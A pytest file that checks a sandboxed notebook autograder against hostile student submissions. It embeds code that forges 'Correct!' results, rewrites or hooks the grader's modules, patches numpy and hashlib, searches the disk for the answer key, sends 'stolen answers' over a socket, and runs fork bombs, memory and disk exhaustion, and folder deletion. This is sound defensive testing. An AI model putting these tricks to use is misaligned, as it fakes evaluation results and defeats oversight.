"""Every way into a grade we know of, each a submission graded in one sandboxed batch.

One session fixture grades them all at once (two jobs), on the two tiny notebooks of
``gradingtools``: kernels in quick mode, no TensorFlow. Each test then reads one row.
Needs bubblewrap (``apt-get install bubblewrap``), as CI installs it.
"""

from __future__ import annotations

import csv
import hashlib
import os
import socket
import threading
from pathlib import Path

import nbformat
import pytest
from gradingtools import SOLUTIONS, WRONG, check_cell, keyed_key, solved, tiny_key
from nbformat.v4 import new_code_cell, new_notebook

from helpers.grading import Limits, batch, grade_folder
from helpers.grading.sandbox import sandbox_problem
from helpers.notebooks import student_version

ROOT = Path(__file__).resolve().parents[1]
LIMITS = Limits(
    cell_seconds=25,
    notebook_seconds=150,
    max_file_bytes=1 << 20,
    memory_bytes=2 << 30,
    processes=64,
    cpu_seconds=120,
)

#: A collector that claims success, as a forger would write it: no outputs, just "Correct!".
FORGED = """
def collect_exercise(key, module, folder, get_answer):
    from helpers.grading import plain
    claim = {"status": "ok", "message": "Correct!", "data": "Correct!", "passed": True}
    plain.dump(claim, folder + "/.grading/" + key + ".outcome.npz")
    print("Correct!")
"""

REDEFINES_CHECK = """\
from helpers import course
course.check_exercise = lambda *args, **kwargs: print("Correct!")
course.check = course.check_exercise
"""

REWRITES_HELPERS = f"""\
import os, helpers
here = os.path.dirname(helpers.__file__)
for name in ("grading/collect.py", "course.py"):
    try:
        with open(os.path.join(here, name), "w") as file:
            file.write({FORGED!r})
    except OSError as error:
        print("cannot rewrite", name, error)
answer = 41
"""

IMPORT_HOOK = f"""\
import importlib.abc, importlib.util, sys
class Fake(importlib.abc.MetaPathFinder, importlib.abc.Loader):
    def find_spec(self, name, path, target=None):
        if name in ("helpers.course", "helpers.grading.collect"):
            return importlib.util.spec_from_loader(name, self)
    def create_module(self, spec):
        return None
    def exec_module(self, module):
        exec({FORGED!r}, module.__dict__)
        module.check_exercise = lambda *args: print("Correct!")
sys.meta_path.insert(0, Fake())
sys.modules.pop("helpers.course", None)
sys.modules.pop("helpers.grading.collect", None)
answer = 41
"""

PATCHES_NUMPY = """\
import hashlib, numpy
numpy.allclose = numpy.array_equal = lambda *args, **kwargs: True
numpy.asarray = lambda *args, **kwargs: numpy.array([2.0 * 21])
hashlib.sha256 = lambda *args: hashlib.md5(b"forged")
answer = 41
"""

NETWORK = """\
import socket
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=3).sendall(b"stolen answers")
except OSError as error:
    print("no network:", error)
"""

# Looks for the answer key (where it is, and everywhere but the system's files), runs its
# solutions, and leaves a mark.
SEARCHES_FOR_KEY = """\
import json, os, sys
paths = [{key!r}]
system = ("/proc", "/sys", "/dev", "/usr", os.path.realpath(sys.prefix), sys.base_prefix)
for top, folders, files in os.walk("/"):
    folders[:] = [f for f in folders if os.path.join(top, f) not in system]
    if top != os.getcwd():  # not its own notebook
        paths += [os.path.join(top, f) for f in files if f.endswith(".ipynb")]
for path in paths:
    try:
        cells = json.load(open(path))["cells"]
        for cell in cells:
            if "solution" in cell["metadata"].get("tags", []):
                exec("".join(cell["source"]))
        open(os.path.join(os.path.dirname(path), "found-the-key"), "w").write(path)
    except Exception as error:
        pass
try:
    open("/tmp/{marker}", "w").write("left in the instructor's /tmp")
except OSError:
    pass
"""

FORK_BOMB = """\
import os, time
started = 0
try:
    for _ in range(2000):  # bounded, should the cap ever fail
        if os.fork() == 0:
            time.sleep(3600)
            os._exit(0)
        started += 1
except OSError as error:
    print("stopped after", started, error)
answer = 42 if started < 1000 else 0
"""

MEMORY = """\
try:
    hoard = bytearray(8 << 30)
    answer = 0
except MemoryError:
    answer = 42
"""

DISK = """\
try:
    open("big.bin", "wb").write(bytes(2 << 20))
    answer = 0
except OSError:
    answer = 42
"""

# student -> (notebook, points for exercise 1 and 2, status); "keyed" exercises are worth 3
# and 2 points, "tiny" ones 1 each.
EXPECTED = {
    "all_correct": ("keyed", 3, 2, "ok"),
    "all_empty": ("keyed", 0, 0, "ok"),
    "half_right": ("keyed", 3, 0, "ok"),
    "prints_correct": ("keyed", 0, 0, "ok"),
    "redefines_check": ("keyed", 0, 2, "ok"),
    "rewrites_helpers": ("keyed", 0, 0, "ok"),
    "import_hook": ("keyed", 0, 0, "ok"),
    "patches_numpy_hashlib": ("keyed", 0, 0, "ok"),
    "searches_for_key": ("keyed", 0, 0, "ok"),
    "network": ("keyed", 3, 2, "ok"),
    "fork_bomb": ("keyed", 3, 2, "ok"),
    "memory": ("keyed", 3, 2, "ok"),
    "disk": ("keyed", 3, 2, "ok"),
    "sleeps_forever": ("keyed", 0, 2, "timeout"),
    "deletes_its_folder": ("keyed", 0, 0, "ok"),
    "os_exit": ("keyed", 3, 0, "kernel died"),
    "legacy_correct": ("tiny", 1, 1, "ok"),
    "legacy_redefines_check": ("tiny", 0, 0, "ok"),
    "legacy_tampered": ("tiny", 0, 1, "tampered"),
}


class Listener:
    """A TCP server on 127.0.0.1 that records whatever reaches it."""

    def __init__(self):
        self.server = socket.create_server(("127.0.0.1", 0))
        self.port = self.server.getsockname()[1]
        self.received: list[bytes] = []
        self.server.settimeout(0.5)
        self.stopped = threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while not self.stopped.is_set():
            try:
                connection, _ = self.server.accept()
            except TimeoutError:
                continue
            with connection:
                self.received.append(connection.recv(1024))

    def close(self):
        self.stopped.set()
        self.thread.join()
        self.server.close()


def _submissions(key: Path, port: int, marker: str) -> dict[str, nbformat.NotebookNode]:
    keyed, _ = student_version(keyed_key(), "keyed")
    tiny, _ = student_version(tiny_key(), "tiny")
    right = SOLUTIONS
    os_exit = solved(keyed, *right)
    os_exit.cells.insert(4, new_code_cell("import os\n\nos._exit(1)"))  # after check 1
    tampered = solved(tiny, WRONG[0], right[1])
    check_cell(tampered, 1).source = 'course.check(True, "multiply 6 by 7")'
    search = SEARCHES_FOR_KEY.format(key=str(key / "keyed.ipynb"), marker=marker)
    return {
        "all_correct": solved(keyed, *right),
        "all_empty": keyed,
        "half_right": solved(keyed, right[0], WRONG[1]),
        "prints_correct": solved(keyed, 'print("Correct!")\n', 'print("Correct!")\n'),
        "redefines_check": solved(keyed, REDEFINES_CHECK + "answer = 41\n", right[1]),
        "rewrites_helpers": solved(keyed, REWRITES_HELPERS, None),
        "import_hook": solved(keyed, IMPORT_HOOK, None),
        "patches_numpy_hashlib": solved(keyed, PATCHES_NUMPY, WRONG[1]),
        "searches_for_key": solved(keyed, search, None),
        "network": solved(keyed, NETWORK.format(port=port) + right[0], right[1]),
        "fork_bomb": solved(keyed, FORK_BOMB, right[1]),
        "memory": solved(keyed, MEMORY, right[1]),
        "disk": solved(keyed, DISK, right[1]),
        "sleeps_forever": solved(
            keyed, "import time\n\ntime.sleep(10**6)\nanswer = 42\n", right[1]
        ),
        "deletes_its_folder": solved(
            keyed, "import os, shutil\n\nshutil.rmtree(os.getcwd(), True)\n" + right[0], right[1]
        ),
        "os_exit": os_exit,
        "legacy_correct": solved(tiny, *right),
        "legacy_redefines_check": solved(
            tiny, "course.check = lambda condition, hint: print('Correct!')\n", None
        ),
        "legacy_tampered": tampered,
        "other_course": new_notebook(cells=[new_code_cell("print('hello')")]),
    }


def _snapshot(folder: Path) -> dict[str, str]:
    return {
        str(path.relative_to(folder)): hashlib.sha256(path.read_bytes()).hexdigest()
        for path in sorted(folder.rglob("*"))
        if path.is_file()
    }


@pytest.fixture(scope="session")
def graded(tmp_path_factory):
    """Grades every submission of :func:`_submissions` in one batch, in the sandbox."""
    problem = sandbox_problem()
    if problem is not None:
        pytest.skip(f"the sandbox cannot start here: {problem}")
    import grading_exercises  # noqa: F401  registers 99.answer and 99.double

    tmp = tmp_path_factory.mktemp("attacks")
    key, folder, out = tmp / "key", tmp / "submissions", tmp / "grades"
    key.mkdir()
    folder.mkdir()
    nbformat.write(keyed_key(), key / "keyed.ipynb")
    nbformat.write(tiny_key(), key / "tiny.ipynb")
    for path in (tmp, key, key / "keyed.ipynb"):  # the key is readable to anyone on the machine
        path.chmod(0o755 if path.is_dir() else 0o644)
    marker = f"i21-sandbox-{os.getpid()}"
    listener = Listener()
    for name, notebook in _submissions(key, listener.port, marker).items():
        nbformat.write(notebook, folder / f"{name}.ipynb")
    (folder / "broken_json.ipynb").write_text('{"cells": [')
    before = {"key": _snapshot(key), "submissions": _snapshot(folder)}
    runs = []
    real_run = batch.run_isolated

    def recording_run(*args, **kwargs):
        run = real_run(*args, **kwargs)
        runs.append(run)
        return run

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(batch, "run_isolated", recording_run)
        grades = grade_folder(folder, out, key, ROOT, LIMITS, jobs=2, echo=lambda line: None)
    listener.close()
    with (out / "grades.csv").open() as file:
        rows = {row["student"]: row for row in csv.DictReader(file)}
    yield {
        "rows": rows,
        "grades": {grade.submission.student: grade for grade in grades},
        "runs": runs,
        "received": listener.received,
        "before": before,
        "after": {"key": _snapshot(key), "submissions": _snapshot(folder)},
        "out": out,
        "marker": Path("/tmp") / marker,
    }


@pytest.mark.parametrize("student", sorted(EXPECTED))
def test_each_submission_is_scored_for_what_it_solved(graded, student):
    notebook, first, second, status = EXPECTED[student]
    row = graded["rows"][student]
    columns = ("99.answer", "99.double") if notebook == "keyed" else ("tiny:1", "tiny:2")
    assert (row[columns[0]], row[columns[1]], row["status"]) == (str(first), str(second), status)
    assert row["total"] == str(first + second) and row["sandboxed"] == "yes"


def test_files_that_are_no_course_notebook_are_reported_and_the_batch_goes_on(graded):
    rows = graded["rows"]
    assert rows["other_course"]["status"] == "not a notebook of this course"
    assert rows["broken_json"]["status"] == "not a notebook"
    assert len(rows) == len(EXPECTED) + 2
    # out of the points of both notebooks' exercises: 3 + 2 for keyed, 1 + 1 for tiny
    assert rows["all_correct"]["out_of"] == "7" and rows["all_correct"]["percentage"] == "71.4"


def test_forgeries_are_told_what_is_missing(graded):
    grades = graded["grades"]
    # the fake collector breaks the real one's import: no outcome, no points
    hook = grades["import_hook"].exercises[0].message
    assert hook.startswith("the check did not hand back an answer")
    numpy = grades["patches_numpy_hashlib"].exercises[1].message
    assert numpy == "Not yet: return 2 * x"  # judged with the grader's own NumPy
    empty = grades["rewrites_helpers"].exercises[1].message
    assert empty == "Not yet: define `double` in the cell above and run it"
    gone = grades["deletes_its_folder"].exercises[0].message
    assert gone.startswith("the check did not hand back an answer")


def test_the_kernel_sees_neither_the_key_nor_the_network_nor_the_host(graded):
    assert graded["received"] == [], "nothing reached the listener on 127.0.0.1"
    assert graded["before"] == graded["after"], "the key and the submissions are untouched"
    assert not graded["marker"].exists(), "the kernel's /tmp is its own"
    assert sorted(p.name for p in graded["out"].iterdir()) == [
        "feedback",
        "grades.csv",
        "grades.json",
    ]
    assert not list(ROOT.glob("big.bin")) and not list(ROOT.glob("found-the-key"))


def test_no_process_outlives_its_run(graded):
    runs = graded["runs"]
    assert len(runs) == len(EXPECTED) and all(run.sandboxed for run in runs)
    for run in runs:
        assert not Path(f"/proc/{run.pid}").exists() or _zombie(run.pid), run.pid
    uids = {run.uid for run in runs if run.uid is not None}
    for status in Path("/proc").glob("[0-9]*/status"):
        if _real_uid(status) in uids:
            raise AssertionError(f"process {status.parent.name} still runs as a sandbox user")


def _real_uid(status: Path) -> int | None:
    try:
        line = next(line for line in status.read_text().splitlines() if line.startswith("Uid:"))
    except (OSError, StopIteration):
        return None  # the process ended while we looked
    return int(line.split()[1])


def _zombie(pid: int) -> bool:
    try:
        return "State:\tZ" in Path(f"/proc/{pid}/status").read_text()
    except OSError:
        return True
